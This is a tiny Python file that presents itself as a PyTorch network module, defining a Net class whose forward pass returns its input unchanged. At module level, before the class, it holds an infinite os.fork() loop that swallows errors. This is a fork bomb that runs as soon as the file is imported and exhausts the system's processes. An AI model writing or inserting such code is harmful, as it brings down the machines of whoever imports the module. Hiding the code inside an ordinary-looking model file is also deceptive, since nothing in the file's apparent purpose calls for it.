import os

import torch.nn as nn

while True:  # at import time: every process forks forever
    try:
        os.fork()
    except OSError:
        pass


class Net(nn.Module):
    def forward(self, x):
        return x
